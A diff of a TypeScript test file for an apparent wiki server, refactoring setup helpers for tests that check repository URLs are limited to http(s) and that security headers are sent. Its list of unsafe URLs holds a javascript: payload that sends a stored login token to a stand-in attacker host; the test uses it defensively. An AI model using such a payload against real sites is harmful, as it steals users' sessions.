@@ -2,13 +2,11 @@
 // repository link is rendered as `<a href>` for every reader, admins included, so REST and
 // replication push must refuse any scheme but http(s) with a 4xx that names the field; the
 // served app carries a strict Content-Security-Policy and every answer carries `nosniff`.
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
-import { tmpdir } from 'node:os';
-import { join } from 'node:path';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { jsonOf, startTestApp, type TestApp } from '../../apps/server/src/testing/test-app.js';
+import { beforeAll, describe, expect, it } from 'vitest';
+import { jsonOf, useTestApp } from '../../apps/server/src/testing/test-app.js';
+import { useWebDist } from '../../apps/server/src/testing/web-dist.js';
 import { testDatabaseKinds } from '../../apps/server/src/testing/test-database.js';
-import { repositoryDoc } from '../../apps/server/src/testing/replicated-docs.js';
+import { repositoryDoc } from '@wikisync/shared/testing';
 
 const UNSAFE_URLS = [
   "javascript:fetch('http://evil.test/steal?t='+localStorage.getItem('wikisync.token'))",
@@ -19,21 +17,11 @@ const UNSAFE_URLS = [
 const SAFE_URLS = ['http://git.example.com/team/repo', 'https://example.com/repo.git', ''];
 
 describe.each(testDatabaseKinds())('repository URLs and security headers on %s', (kind) => {
-  let t: TestApp;
-  let dist: string;
+  const t = useTestApp(kind, { webDistDir: useWebDist('app-1.js') });
   let userToken: string;
 
   beforeAll(async () => {
-    dist = mkdtempSync(join(tmpdir(), 'wikisync-web-'));
-    mkdirSync(join(dist, 'assets'));
-    writeFileSync(join(dist, 'index.html'), '<!doctype html><div id="app"></div>');
-    writeFileSync(join(dist, 'assets', 'app-1.js'), 'console.log(1)');
-    t = await startTestApp(kind, { webDistDir: dist });
     userToken = (await t.createUserWithToken('reader')).token;
-  });
-  afterAll(async () => {
-    await t.close();
-    rmSync(dist, { recursive: true, force: true });
   });
 
   const expectUrlRefused = async (response: Response) => {
